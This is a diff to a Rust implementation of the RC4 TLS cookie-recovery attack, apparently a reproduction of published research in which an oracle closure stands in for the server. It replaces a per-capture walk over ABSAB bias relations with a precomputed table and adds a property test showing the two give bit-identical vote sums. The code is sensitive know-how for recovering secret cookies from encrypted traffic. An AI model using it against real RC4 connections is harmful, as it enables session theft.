@@ -16,6 +16,15 @@
 //!   Eq. 22/25 while storing a single 65536-entry table per transition instead
 //!   of one table per `(transition, gap)` pair.
 //!
+//! Which known pair a relation uses, and its weight, depend only on the
+//! request template and the gap, never on a capture. So
+//! [`CookieStatistics::new`] walks the gaps once and stores each
+//! transition's relations as a table of `(known offset, known pair, weight)`
+//! entries; folding a capture in is then one XOR pair and one addition per
+//! relation. The table keeps the walk's order, so every vote slot receives
+//! the same additions in the same order as a per-capture walk would make
+//! (bit-identical `f64` sums).
+//!
 //! The combined per-transition likelihoods feed Algorithm 2 (list Viterbi) over
 //! the cookie alphabet, and the resulting candidate list is brute-forced
 //! against the web server (simulated here by an oracle closure).
@@ -82,7 +91,8 @@ pub struct CookieStatistics {
     /// cookie bytes zeroed is not needed — only the surrounding bytes).
     known_prefix: Vec<u8>,
     known_suffix: Vec<u8>,
-    max_gap: usize,
+    /// ABSAB relations per transition, in the order their votes are added.
+    relations: Vec<Vec<Relation>>,
     /// FM pair counts per transition (65536 each).
     fm_counts: Vec<Vec<u64>>,
     /// ABSAB weighted votes per transition (65536 each), indexed by plaintext pair.
@@ -103,17 +113,54 @@ impl CookieStatistics {
             return Err(TlsError::InvalidConfig("cookie length must be > 0".into()));
         }
         let transitions = template.cookie_len + 1;
-        Ok(Self {
+        let mut stats = Self {
             cookie_len: template.cookie_len,
             cookie_offset: template.cookie_offset(),
             known_prefix: template.known_prefix(),
             known_suffix: template.known_suffix(),
-            max_gap,
+            relations: Vec::new(),
             fm_counts: vec![vec![0u64; 65536]; transitions],
             absab_votes: vec![vec![0.0f64; 65536]; transitions],
             cookie_residue: None,
             requests: 0,
-        })
+        };
+        stats.relations = (0..transitions)
+            .map(|t| stats.transition_relations(t, max_gap))
+            .collect();
+        Ok(stats)
+    }
+
+    /// The ABSAB relations of transition `t` up to gap `max_gap`: first the
+    /// known pairs after the cookie, then those before it, each by
+    /// increasing gap.
+    fn transition_relations(&self, t: usize, max_gap: usize) -> Vec<Relation> {
+        let u0 = self.cookie_offset - 1 + t; // first byte of the transition's pair
+        let suffix_start = self.cookie_offset + self.cookie_len;
+        let relation = |k0: usize, gap: usize| {
+            let (p0, p1) = self.known_byte(k0).zip(self.known_byte(k0 + 1))?;
+            let alpha = absab::alpha(gap);
+            let weight = alpha.ln() - ((1.0 - alpha) / 65535.0).ln();
+            Some(Relation { k0, p0, p1, weight })
+        };
+        let mut relations = Vec::new();
+        for gap in 0..=max_gap {
+            let k0 = u0 + gap + 2;
+            // Pairs still inside the cookie are skipped; the first pair
+            // past the end of the request ends the walk.
+            if k0 < suffix_start {
+                continue;
+            }
+            let Some(r) = relation(k0, gap) else { break };
+            relations.push(r);
+        }
+        for gap in 0..=max_gap {
+            let Some(k0) = u0.checked_sub(gap + 2) else {
+                break;
+            };
+            // A pair touching the cookie is not known plaintext.
+            relations.extend(relation(k0, gap));
+        }
+        relations
     }
 
     /// Number of requests accumulated.
@@ -156,58 +203,17 @@ impl CookieStatistics {
 
         let ct = &capture.ciphertext;
         let start = self.cookie_offset; // 0-based index of first cookie byte
-                                        // Transition t covers request bytes (start - 1 + t, start + t).
-        for t in 0..=self.cookie_len {
-            let a = ct[start - 1 + t] as usize;
-            let b = ct[start + t] as usize;
-            self.fm_counts[t][(a << 8) | b] += 1;
-        }
-
-        // ABSAB votes: relate each transition's (unknown) pair to known plaintext
-        // pairs before the cookie and after it.
-        for t in 0..=self.cookie_len {
-            let u0 = start - 1 + t; // 0-based index of the first byte of the pair
-                                    // Known plaintext after the cookie: positions >= start + cookie_len.
-            for gap in 0..=self.max_gap {
-                let k0 = u0 + gap + 2;
-                // Both known bytes must be in the known suffix region.
-                if k0 < start + self.cookie_len {
-                    continue;
-                }
-                let Some((p0, p1)) = self.known_byte(k0).zip(self.known_byte(k0 + 1)) else {
-                    break;
-                };
-                let Some((c0, c1)) = ct.get(k0).zip(ct.get(k0 + 1)) else {
-                    break;
-                };
-                let d0 = ct[u0] ^ c0 ^ p0;
-                let d1 = ct[u0 + 1] ^ c1 ^ p1;
-                let alpha = absab::alpha(gap);
-                let weight = alpha.ln() - ((1.0 - alpha) / 65535.0).ln();
-                self.absab_votes[t][(d0 as usize) << 8 | d1 as usize] += weight;
-            }
-            // Known plaintext before the cookie: positions < start - 1.
-            for gap in 0..=self.max_gap {
-                let offset = gap + 2;
-                if u0 < offset {
-                    break;
-                }
-                let k0 = u0 - offset;
-                if k0 + 1 >= start - 1 + t && t > 0 {
-                    // The "known" pair would overlap unknown cookie bytes.
-                    continue;
-                }
-                if k0 + 1 >= self.known_prefix.len() && k0 + 1 >= start {
-                    continue;
-                }
-                let Some((p0, p1)) = self.known_byte(k0).zip(self.known_byte(k0 + 1)) else {
-                    continue;
-                };
-                let d0 = ct[u0] ^ ct[k0] ^ p0;
-                let d1 = ct[u0 + 1] ^ ct[k0 + 1] ^ p1;
-                let alpha = absab::alpha(gap);
-                let weight = alpha.ln() - ((1.0 - alpha) / 65535.0).ln();
-                self.absab_votes[t][(d0 as usize) << 8 | d1 as usize] += weight;
+        for (t, relations) in self.relations.iter().enumerate() {
+            // Transition t covers request bytes (u0, u0 + 1).
+            let u0 = start - 1 + t;
+            let (a, b) = (ct[u0], ct[u0 + 1]);
+            self.fm_counts[t][(a as usize) << 8 | b as usize] += 1;
+            // ABSAB votes: relate the (unknown) pair to each known pair.
+            let votes = &mut self.absab_votes[t];
+            for r in relations {
+                let d0 = a ^ ct[r.k0] ^ r.p0;
+                let d1 = b ^ ct[r.k0 + 1] ^ r.p1;
+                votes[(d0 as usize) << 8 | d1 as usize] += r.weight;
             }
         }
         self.requests += 1;
@@ -300,6 +306,17 @@ impl CookieStatistics {
     pub fn boundary_after(&self) -> u8 {
         self.known_suffix[0]
     }
+}
+
+/// One ABSAB relation of a transition: the known plaintext pair `(p0, p1)`
+/// at request offset `k0`, voting with weight `ln α(g) − ln((1 − α(g))/65535)`
+/// for its gap `g`.
+#[derive(Debug, Clone, Copy)]
+struct Relation {
+    k0: usize,
+    p0: u8,
+    p1: u8,
+    weight: f64,
 }
 
 /// Outcome of the cookie recovery.
@@ -514,6 +531,143 @@ mod tests {
         }
         for w in candidates.windows(2) {
             assert!(w[0].log_likelihood >= w[1].log_likelihood);
+        }
+    }
+
+    /// The per-capture gap walk that the relation table replaced, kept as
+    /// the reference the table must reproduce bit for bit.
+    fn reference_add(
+        stats: &CookieStatistics,
+        max_gap: usize,
+        fm_counts: &mut [Vec<u64>],
+        absab_votes: &mut [Vec<f64>],
+        ct: &[u8],
+    ) {
+        let start = stats.cookie_offset;
+        for (t, counts) in fm_counts.iter_mut().enumerate() {
+            let a = ct[start - 1 + t] as usize;
+            let b = ct[start + t] as usize;
+            counts[(a << 8) | b] += 1;
+        }
+        for (t, votes) in absab_votes.iter_mut().enumerate() {
+            let u0 = start - 1 + t;
+            for gap in 0..=max_gap {
+                let k0 = u0 + gap + 2;
+                if k0 < start + stats.cookie_len {
+                    continue;
+                }
+                let Some((p0, p1)) = stats.known_byte(k0).zip(stats.known_byte(k0 + 1)) else {
+                    break;
+                };
+                let Some((c0, c1)) = ct.get(k0).zip(ct.get(k0 + 1)) else {
+                    break;
+                };
+                let d0 = ct[u0] ^ c0 ^ p0;
+                let d1 = ct[u0 + 1] ^ c1 ^ p1;
+                let alpha = absab::alpha(gap);
+                let weight = alpha.ln() - ((1.0 - alpha) / 65535.0).ln();
+                votes[(d0 as usize) << 8 | d1 as usize] += weight;
+            }
+            for gap in 0..=max_gap {
+                let offset = gap + 2;
+                if u0 < offset {
+                    break;
+                }
+                let k0 = u0 - offset;
+                if k0 + 1 >= start - 1 + t && t > 0 {
+                    continue;
+                }
+                if k0 + 1 >= stats.known_prefix.len() && k0 + 1 >= start {
+                    continue;
+                }
+                let Some((p0, p1)) = stats.known_byte(k0).zip(stats.known_byte(k0 + 1)) else {
+                    continue;
+                };
+                let d0 = ct[u0] ^ ct[k0] ^ p0;
+                let d1 = ct[u0 + 1] ^ ct[k0 + 1] ^ p1;
+                let alpha = absab::alpha(gap);
+                let weight = alpha.ln() - ((1.0 - alpha) / 65535.0).ln();
+                votes[(d0 as usize) << 8 | d1 as usize] += weight;
+            }
+        }
+    }
+
+    proptest::proptest! {
+        /// Folding captures through the relation table gives the FM counts
+        /// and, slot for slot, the same `f64` vote bits as the per-capture
+        /// gap walk. Besides uniform ciphertexts, two shapes make many votes
+        /// land in the same slot: ciphertext bytes with only their two low
+        /// bits set, and the request XORed with one repeated keystream byte
+        /// (every relation of a transition then votes for the same pair).
+        /// The weights are multiples of 2^-49, so sums below 16 are exact
+        /// whatever the order of their additions; both sides therefore start
+        /// from the same non-zero votes, which makes every addition round and
+        /// a change of order show up in the bits.
+        #[test]
+        fn relation_table_matches_the_gap_walk_bit_for_bit(
+            cookie_len in 1usize..=24,
+            max_gap in 0usize..=128,
+            path_padding in 0usize..=300,
+            alignment_padding in 0usize..=300,
+            payload_offset in 0u64..=4096,
+            captures in 1usize..=4,
+            shape in 0u8..3,
+            seed in proptest::prelude::any::<u64>(),
+        ) {
+            let mut template = template(cookie_len);
+            template.path_padding = path_padding;
+            template.alignment_padding = alignment_padding;
+            let mut stats = CookieStatistics::new(&template, max_gap).unwrap();
+            for votes in &mut stats.absab_votes {
+                for (slot, v) in votes.iter_mut().enumerate() {
+                    *v = 1000.0 + slot as f64 / 65536.0;
+                }
+            }
+            let mut fm_counts = stats.fm_counts.clone();
+            let mut absab_votes = stats.absab_votes.clone();
+            let mut x = seed | 1;
+            let mut next = move || {
+                x ^= x << 13;
+                x ^= x >> 7;
+                x ^= x << 17;
+                x as u8
+            };
+            for i in 0..captures {
+                let cookie: Vec<u8> = (0..cookie_len).map(|_| next()).collect();
+                let mut request = template.build(&cookie).unwrap();
+                request.push(next());
+                let keystream_byte = next();
+                let ciphertext: Vec<u8> = request
+                    .iter()
+                    .map(|&p| match shape {
+                        0 => next(),
+                        1 => next() & 0x03,
+                        _ => p ^ keystream_byte,
+                    })
+                    .collect();
+                reference_add(&stats, max_gap, &mut fm_counts, &mut absab_votes, &ciphertext);
+                stats
+                    .add(&CapturedRequest {
+                        connection: 0,
+                        payload_offset: payload_offset + 256 * i as u64,
+                        ciphertext,
+                    })
+                    .unwrap();
+            }
+            proptest::prop_assert!(stats.fm_counts == fm_counts, "FM counts differ");
+            for (t, (table, reference)) in stats.absab_votes.iter().zip(&absab_votes).enumerate() {
+                for (slot, (got, want)) in table.iter().zip(reference).enumerate() {
+                    proptest::prop_assert_eq!(
+                        got.to_bits(),
+                        want.to_bits(),
+                        "transition {} slot {:#06x}: {} vs {}",
+                        t,
+                        slot,
+                        got,
+                        want
+                    );
+                }
+            }
         }
     }
 
